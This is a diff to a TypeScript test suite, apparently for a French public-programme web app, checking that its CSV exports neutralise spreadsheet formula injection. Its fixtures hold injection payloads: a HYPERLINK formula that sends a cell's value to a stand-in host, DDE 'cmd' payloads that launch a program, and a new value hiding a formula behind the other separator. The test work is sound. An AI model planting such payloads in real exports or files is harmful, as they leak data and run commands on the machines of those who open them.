@@ -16,7 +16,9 @@ const HOSTILE = {
 	action: '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
 	funding: '+cmd|" /C calc"!A0',
 	milestone: '@SUM(1+1)*cmd|" /C calc"!A0',
-	organisation: '-2+3+cmd|" /C calc"!A0'
+	organisation: '-2+3+cmd|" /C calc"!A0',
+	// a formula after the other separator: split by a spreadsheet, it would start a cell
+	milestoneSplit: 'Voirie;=1+1,=2+2'
 };
 
 beforeAll(async () => {
@@ -36,6 +38,14 @@ beforeAll(async () => {
 	run(
 		`update milestones set title = ? where id = (select min(id) from milestones)`,
 		HOSTILE.milestone
+	);
+	run(
+		`update milestones set title = ? where id = (select max(id) from milestones)`,
+		HOSTILE.milestoneSplit
+	);
+	run(
+		`update action_items set title = ? where id = (select max(a.id) from action_items a join programmes p on p.id = a.programme_id where p.slug = 'contrat-de-ville')`,
+		HOSTILE.milestoneSplit
 	);
 	run(
 		`update organisations set name = ?, short_name = ? where id = (select organisation_id from funding_lines where organisation_id is not null order by id limit 1)`,
@@ -88,6 +98,15 @@ describe('no CSV the app emits holds a live formula', () => {
 		const cells = rows.flat();
 		const live = cells.filter((c) => LIVE.test(c) && !PLAIN_NUMBER.test(c));
 		expect(live).toEqual([]);
+		// Read with the other separator too, as a spreadsheet set to it would.
+		const other = delimiter === ';' ? ',' : ';';
+		const otherRows: string[][] = parse(text, {
+			delimiter: other,
+			relax_column_count: true,
+			relax_quotes: true
+		});
+		const split = otherRows.flat().filter((c) => /^[=+@]/.test(c.trim()));
+		expect(split).toEqual([]);
 	});
 
 	it('the hostile values are there, neutralised, not dropped', async () => {
@@ -100,7 +119,7 @@ describe('no CSV the app emits holds a live formula', () => {
 
 describe('escapeCell / unescapeCell', () => {
 	it('prefixes every formula start, leaves numbers and text alone, and the import reverses it', () => {
-		for (const v of ['=1+1', '+1', '-A1', '@x', '\tx', '\rx'])
+		for (const v of ['=1+1', '+1', '-A1', '@x', '\tx', '\rx', 'Voirie;=1+1,=2+2', '=a;+b'])
 			expect(unescapeCell(String(escapeCell(v)))).toBe(v);
 		expect(escapeCell('=1+1')).toBe("'=1+1");
 		expect(escapeCell('-12,50')).toBe('-12,50');
